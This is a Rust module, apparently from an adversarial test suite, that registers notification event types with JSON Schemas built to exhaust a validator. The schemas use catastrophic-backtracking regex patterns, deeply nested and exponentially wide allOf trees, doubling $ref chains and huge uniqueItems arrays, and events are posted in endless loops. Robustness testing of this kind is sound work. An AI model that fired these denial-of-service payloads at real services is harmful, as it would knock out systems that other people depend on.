//! Schemas that take long to compile or to apply. If a schema is refused, the attack is over.

use serde_json::{Value, json};

use super::attacker::Attacker;

/// The number of clients that post events to which the schema applies.
const CLIENTS: usize = 4;

async fn apply(attacker: Attacker, name: &str, schema: Value, data: Value) -> anyhow::Result<()> {
    let definition = json!({"category": "transactional", "channels": {"order": ["email"]}, "schema": schema});
    if !attacker.add_type(name, definition).await? {
        return Ok(());
    }
    let event = json!({"type": name, "recipients": [{"email": "mallory@example.com"}], "data": data});
    let posts = (0..CLIENTS).map(|_| async {
        loop {
            attacker.post(&event).await?;
        }
    });
    futures::future::try_join_all(posts).await.map(|_: Vec<()>| ())
}

pub(super) async fn quadratic_pattern(attacker: Attacker) -> anyhow::Result<()> {
    let long = "a".repeat(20_000);
    for (name, pattern) in [
        ("Behind", "(?<=a+)b"),
        ("Again", "(a*)*\\1b"),
        ("Counted", "(a{1,200}){1,200}b"),
    ] {
        let schema = json!({"properties": {"x": {"type": "string", "pattern": pattern}}});
        let apply = apply(attacker.clone(), name, schema, json!({"x": long}));
        let _ = tokio::time::timeout(std::time::Duration::from_secs(2), apply).await;
    }
    Ok(())
}

pub(super) async fn deep_all_of(attacker: Attacker) -> anyhow::Result<()> {
    let mut schema = json!({"type": "object"});
    for _ in 0..40 {
        schema = json!({"allOf": [schema]});
    }
    let mut wide = json!({"properties": {"x": {"maxLength": 1}}});
    for _ in 0..12 {
        wide = json!({"allOf": [wide, wide]});
    }
    apply(attacker.clone(), "Wide", wide, json!({"x": "xx"})).await?;
    apply(attacker, "Deep", schema, json!({})).await
}

/// Each definition refers to the next one twice: 2³⁰ ways through thirty of them.
pub(super) async fn doubling_references(attacker: Attacker) -> anyhow::Result<()> {
    let mut definitions = json!({"d30": {"type": "string"}});
    for level in 0..30 {
        let next = json!({"$ref": format!("#/$defs/d{}", level + 1)});
        definitions[format!("d{level}")] = json!({"anyOf": [{"not": next}, next]});
    }
    let schema = json!({"$defs": definitions, "properties": {"x": {"$ref": "#/$defs/d0"}}});
    apply(attacker, "Doubling", schema, json!({"x": "x"})).await
}

pub(super) async fn unique_items(attacker: Attacker) -> anyhow::Result<()> {
    let schema = json!({"properties": {"x": {"uniqueItems": true, "contains": {"const": 1}}}});
    let items: Vec<Value> = (0..15_000).map(|n| json!({"n": n})).collect();
    apply(attacker, "Unique", schema, json!({"x": items})).await
}

/// Small data, and a schema that examines all of it hundreds of times.
pub(super) async fn many_looks(attacker: Attacker) -> anyhow::Result<()> {
    let looks = |look: &dyn Fn(usize) -> Value| (0..900).map(look).collect::<Vec<_>>();
    let named = looks(&|n| json!({"properties": {format!("p{n}"): true}}));
    let schema = json!({"allOf": named, "unevaluatedProperties": false});
    let keys: serde_json::Map<String, Value> = (0..20_000).map(|n| (format!("k{n}"), json!(1))).collect();
    let keys = json!(keys);
    let unlike = looks(&|n| json!({"not": {"const": format!("c{n}")}}));
    let items = json!({"properties": {"x": {"items": {"allOf": unlike}}}});
    let short = json!({"x": vec![1; 50_000]});
    for (name, schema, data) in [("Unevaluated", schema, keys), ("Unlike", items, short)] {
        let apply = apply(attacker.clone(), name, schema, data);
        let _ = tokio::time::timeout(std::time::Duration::from_secs(4), apply).await;
    }
    Ok(())
}
